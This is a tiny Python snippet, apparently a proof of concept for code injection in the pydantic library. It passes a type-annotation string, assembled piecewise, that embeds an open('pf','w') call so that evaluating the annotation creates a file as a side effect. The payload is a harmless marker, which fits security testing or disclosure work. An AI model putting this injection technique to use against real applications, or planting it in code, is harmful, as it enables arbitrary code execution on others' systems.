import pydantic
T = "".join(["[open('pf','w'), ", "int][1]"])
pydantic.create_model("M", x=(T, 1))
